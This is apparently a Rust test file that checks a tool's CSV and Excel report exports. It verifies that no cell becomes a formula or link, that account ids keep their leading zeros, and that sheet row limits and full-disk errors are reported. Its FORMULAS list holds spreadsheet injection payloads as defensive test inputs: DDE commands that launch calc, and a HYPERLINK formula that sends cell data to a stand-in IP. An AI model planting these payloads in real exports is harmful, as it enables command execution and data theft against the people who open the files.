//! The report as CSV and as a workbook: the same findings, and no text becomes a formula.

use std::collections::BTreeMap;
use std::fs;
use std::io::Read as _;
use std::path::Path;

use bestand_model::change_set::Change;
use bestand_model::exception::AppliedException;
use bestand_model::finding::Finding;
use bestand_model::run_summary::FindingCounts;
use bestand_publisher::report::{HtmlReport, ReportError, ReportTotals, XlsxReport, write_csv, write_jsonl};
use serde_json::{Value, json};

use crate::sample::{HOSTILE, Sample, started};

/// Texts that a spreadsheet would take for a formula, or that look like something else than a text.
const FORMULAS: [&str; 12] = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"more\")",
    "\r\n=1+1",
    "  =1+1",
    "\"=1+1",
    "'=1+1",
    "＝1+1",
    "000123",
    "https://198.51.100.1/",
];

/// A run whose findings hold every formula, every kind of value, overlong texts, and some that exceptions hide.
pub(crate) struct Tables {
    pub(crate) sample: Sample,
    pub(crate) findings: Vec<Finding>,
}

impl Tables {
    pub(crate) fn new(findings: u64) -> Self {
        let mut sample = Sample::new(findings);
        let findings: Vec<Finding> =
            sample.stream().enumerate().map(|(number, own)| adorned(number, own)).collect();
        let mut counts = FindingCounts::default();
        findings.iter().for_each(|own| counts.add(own));
        sample.summary.findings = counts;
        Self { sample, findings }
    }

    fn csv(&self) -> (Vec<u8>, ReportTotals) {
        let mut out = Vec::new();
        let totals = write_csv(&mut out, &self.sample.head(), &mut self.findings.iter().cloned()).unwrap();
        (out, totals)
    }

    fn changes(&self) -> impl Iterator<Item = Change> + use<> {
        self.sample.planned()
    }

    fn xlsx(&self, report: &XlsxReport) -> (Vec<u8>, ReportTotals) {
        let mut out = Vec::new();
        let findings = &mut self.findings.iter().cloned();
        let totals = report.write(&mut out, &self.sample.head(), findings, &mut self.changes()).unwrap();
        (out, totals)
    }
}

fn adorned(number: usize, mut own: Finding) -> Finding {
    let formula = FORMULAS[number % FORMULAS.len()];
    match number % 5 {
        0 => own.name = Some(formula.to_owned()),
        1 => own.owner = Some(formula.to_owned()),
        2 => own.attribute = Some(format!("tag:{formula}")),
        3 => {
            own.live = Some(json!(formula));
            own.registered = Some(value(number));
        }
        _ => own.published = Some(value(number)),
    }
    if number.is_multiple_of(7) {
        own.exception = Some(AppliedException {
            owner: formula.to_owned(),
            because: HOSTILE[number % HOSTILE.len()].to_owned(),
            until: started(),
        });
    }
    own
}

fn value(number: usize) -> Value {
    match number % 9 {
        0 => json!(-5),
        1 => json!(0.25),
        2 => json!(true),
        3 => Value::Null,
        4 => json!([1, "=2"]),
        5 => json!({ "=a": "b\nc" }),
        6 => json!(12_345_678_901_234_567_u64),
        7 => json!("=\u{ffff}\u{1}_x0041_\u{fffe}".repeat(3)),
        _ => json!("ü,\"".repeat(65_536 / 4)),
    }
}

/// Takes the records of a CSV apart, as RFC 4180 has them.
fn records(text: &[u8]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text);
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// The parts of a workbook by their name.
fn parts(workbook: &[u8]) -> BTreeMap<String, String> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(workbook)).unwrap();
    (0..archive.len())
        .map(|index| {
            let mut part = archive.by_index(index).unwrap();
            let mut text = String::new();
            part.read_to_string(&mut text).unwrap();
            (part.name().to_owned(), text)
        })
        .collect()
}

fn sheet(parts: &BTreeMap<String, String>, number: usize) -> &str {
    &parts[&format!("xl/worksheets/sheet{number}.xml")]
}

/// How many findings the summary says are left out.
fn left_out(parts: &BTreeMap<String, String>) -> &str {
    let mut rows = sheet(parts, 1).split("<row ").filter(|row| row.contains("<t>rows left out</t>"));
    let row = rows.find(|row| row.contains("<t>findings</t>")).unwrap();
    row.split_once("<v>").unwrap().1.split_once("</v>").unwrap().0
}

fn scratch() -> &'static Path {
    Path::new(env!("CARGO_TARGET_TMPDIR"))
}

#[test]
fn a_csv_has_a_row_for_each_finding_and_marks_those_that_are_ignored() {
    let tables = Tables::new(60);
    let (text, totals) = tables.csv();
    let rows = records(&text);
    let (names, rows) = rows.split_first().unwrap();
    let column = |name: &str| names.iter().position(|own| own == name).unwrap();
    assert_eq!(rows.len(), 60);
    for (row, own) in rows.iter().zip(&tables.findings) {
        let is = |name: &str, text: &str| assert_eq!(row[column(name)], text, "{name}");
        is("finding_id", &own.finding_id);
        is("kind", own.kind.code());
        is("ignored", if own.exception.is_some() { "true" } else { "false" });
        is("account_id", own.account_id.as_ref().map_or("", |id| id.as_str()));
        is("arn", &own.arn.as_ref().map_or(String::new(), ToString::to_string));
        is("since", &own.since.map_or(String::new(), |at| at.to_string()));
    }
    assert_eq!(totals.by_kind, tables.sample.summary.findings.by_kind);
    assert_eq!(totals.ignored, tables.sample.summary.findings.ignored);
    assert_eq!(totals.embedded, totals.findings);
    assert!(text.ends_with(b"\r\n") && text.starts_with(b"finding_id,kind,severity,ignored,account_id,"));
}

#[test]
fn no_cell_of_a_csv_begins_like_a_formula_and_every_text_can_be_had_back() {
    let tables = Tables::new(600);
    let rows = records(&tables.csv().0);
    let column = |name: &str| rows[0].iter().position(|own| own == name).unwrap();
    for row in &rows[1..] {
        for (name, cell) in rows[0].iter().zip(row) {
            let bare = cell.trim_start_matches([' ', '"']);
            let number = cell.parse::<f64>().is_ok();
            assert!(number || !bare.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "{name}: {cell:?}");
        }
    }
    let mut formulas = 0;
    for (row, own) in rows[1..].iter().zip(&tables.findings) {
        let (cell, name) = (&row[column("name")], own.name.as_deref().unwrap_or_default());
        if cell != name {
            assert_eq!(cell.strip_prefix('\''), Some(name));
            formulas += 1;
        }
    }
    assert!(formulas > 50, "{formulas}");
}

#[test]
fn a_workbook_has_five_sheets_and_no_formula_and_no_link() {
    let tables = Tables::new(600);
    let (book, totals) = tables.xlsx(&XlsxReport::new(scratch()));
    let parts = parts(&book);
    let names: Vec<&str> = parts["xl/workbook.xml"]
        .split("<sheet name=\"")
        .skip(1)
        .map(|own| own.split('"').next().unwrap())
        .collect();
    assert_eq!(names, ["summary", "coverage", "findings", "changes", "exceptions"]);
    for number in 1..=5 {
        let text = sheet(&parts, number);
        assert!(!text.contains("<f>") && !text.contains("<f ") && !text.contains("hyperlink"), "{number}");
        assert!(text.contains("ySplit=\"1\"") && text.contains("<autoFilter "), "{number}");
    }
    assert!(!parts.keys().any(|name| name.contains("sheet") && name.ends_with(".rels")), "no links");
    assert!(parts.keys().all(|name| !name.contains("externalLink")));
    let rows = sheet(&parts, 3).matches("<row ").count();
    assert_eq!(rows, 601);
    assert_eq!((totals.findings + totals.all_ignored(), totals.embedded), (600, totals.findings));
    // Account ids are texts, and keep their zeros.
    assert!(sheet(&parts, 3).contains("t=\"inlineStr\"><is><t>100000000000</t>"));
    assert!(sheet(&parts, 3).contains("(cut here, 49,152 characters: see report.csv)"));
}

#[test]
fn the_same_run_gives_the_same_tables_byte_for_byte() {
    let tables = Tables::new(50);
    assert_eq!(tables.csv().0, tables.csv().0);
    let report = XlsxReport::new(scratch());
    assert!(tables.xlsx(&report).0 == tables.xlsx(&report).0);
}

#[test]
fn what_does_not_fit_into_a_sheet_is_told_there_and_in_the_summary() {
    let tables = Tables::new(60);
    let fitting = |max_rows: u32| {
        let (book, totals) = tables.xlsx(&XlsxReport::new(scratch()).with_max_rows(max_rows));
        (parts(&book), totals)
    };
    let (whole, _) = fitting(61);
    assert_eq!(sheet(&whole, 3).matches("<row ").count(), 61, "as many as there is room for");
    assert!(!sheet(&whole, 3).contains("do not fit") && sheet(&whole, 3).contains("A1:Z61"));
    assert_eq!(left_out(&whole), "0");

    let (parts, totals) = fitting(60);
    assert_eq!(sheet(&parts, 3).matches("<row ").count(), 60);
    assert!(sheet(&parts, 3).contains("2 further rows do not fit into a sheet"));
    assert_eq!(left_out(&parts), "2");
    assert!(sheet(&parts, 1).contains("a sheet has no room for more: report.jsonl has all"));
    assert_eq!(totals.findings, tables.sample.summary.findings.by_kind.values().sum::<u64>());
    assert_eq!(totals.embedded, totals.findings - 2);
}

#[test]
fn an_empty_run_gives_tables_with_their_names_alone() {
    let tables = Tables::new(0);
    let rows = records(&tables.csv().0);
    assert_eq!(rows.len(), 1);
    let parts = parts(&tables.xlsx(&XlsxReport::new(scratch())).0);
    assert_eq!(sheet(&parts, 3).matches("<row ").count(), 1);
}

#[test]
fn a_folder_that_takes_no_temporary_files_is_told() {
    let tables = Tables::new(3);
    let nowhere = scratch().join("nowhere");
    let mut out = Vec::new();
    let findings = &mut tables.findings.iter().cloned();
    let error = XlsxReport::new(&nowhere)
        .write(&mut out, &tables.sample.head(), findings, &mut tables.changes())
        .unwrap_err();
    assert!(matches!(&error, ReportError::Scratch { folder, .. } if *folder == nowhere), "{error:?}");
    assert!(error.to_string().contains("TMPDIR"), "{error}");
}

#[test]
fn a_full_disk_is_told_as_such_by_tables_too() {
    let tables = Tables::new(1);
    let head = tables.sample.head();
    let findings = || tables.findings.iter().cloned();
    let full = |error: &ReportError| matches!(error, ReportError::Write(cause) if cause.kind() == std::io::ErrorKind::StorageFull);
    let error = write_csv(&mut crate::Full, &head, &mut findings()).unwrap_err();
    assert!(full(&error), "{error:?}");
    let report = XlsxReport::new(scratch());
    let error = report.write(&mut crate::Full, &head, &mut findings(), &mut tables.changes()).unwrap_err();
    assert!(full(&error), "{error:?}");
}

/// Writes a run in every form into a folder, for `tests/peers/report_formats.py` to compare.
#[test]
fn sample_tables_for_the_peers_are_written() {
    let folder = scratch().join("report/tables");
    fs::create_dir_all(&folder).unwrap();
    let tables = Tables::new(900);
    let head = tables.sample.head();
    let findings = || tables.findings.iter().cloned();
    let file = |name: &str| fs::File::create(folder.join(name)).map(std::io::BufWriter::new).unwrap();
    HtmlReport::write(&mut file("report.html"), &head, &mut findings(), &mut tables.changes(), 100_000)
        .unwrap();
    write_jsonl(&mut file("report.jsonl"), &head, &mut findings()).unwrap();
    write_csv(&mut file("report.csv"), &head, &mut findings()).unwrap();
    let report = XlsxReport::new(&folder);
    report.write(&mut file("report.xlsx"), &head, &mut findings(), &mut tables.changes()).unwrap();
}
